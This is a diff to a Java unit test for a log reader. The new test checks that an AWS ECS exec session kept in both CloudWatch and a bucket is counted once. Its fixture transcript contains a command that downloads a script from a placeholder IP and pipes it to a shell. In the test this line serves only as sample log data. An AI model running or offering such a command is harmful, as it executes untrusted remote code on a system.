@@ -87,6 +87,25 @@ class LogsTest {
         assertThat(lines).extracting(LogLine::text).containsExactly("a", "b", "c");
     }
 
+    /** A session that is kept in CloudWatch and in a bucket is one; what only the bucket has is not lost. */
+    @Test
+    void countsASessionThatIsKeptTwiceOnce() throws IOException {
+        Map<String, String> session = Map.of("session", "ecs-execute-command-0a1b");
+        answer("aws.ecs.exec-session", "1", "a/1.body.txt", "GetObject", session, Map.of(), """
+                Script started on 2026-11-26 12:00:00+00:00\r
+                # curl -s http://203.0.113.9/x | sh\r
+                # rm -f /tmp/x
+                """);
+        answer("aws.ecs.exec-session", "2", "a/1.body.json", "GetLogEvents", session, Map.of(), """
+                {"events":[{"message":"Script started on 2026-11-26 12:00:00+00:00\\n# curl -s http://203.0.113.9/x | sh","timestamp":1000}]}""");
+        assertThat(read()).isEmpty();
+        assertThat(lines)
+                .extracting(LogLine::text)
+                .containsExactly(
+                        "Script started on 2026-11-26 12:00:00+00:00\n# curl -s http://203.0.113.9/x | sh",
+                        "# rm -f /tmp/x");
+    }
+
     @Test
     void readsCompleteQueriesAlone() throws IOException {
         String page = """
@@ -177,7 +196,7 @@ class LogsTest {
         answer("aws.logs.stream", "2", "a/1.body.json", "GetLogEvents", APP, Map.of(), """
                 {"events":[{"message":"far","timestamp":9223372036854775807},{"message":"past","timestamp":-9223372036854775808}]}""");
         assertThat(read()).isEmpty();
-        assertThat(lines).extracting(LogLine::text).containsExactly(typed, "far", "past");
+        assertThat(lines).extracting(LogLine::text).containsExactly("far", "past", typed);
         assertThat(lines).extracting(LogLine::time).containsOnly(Optional.empty());
     }
 
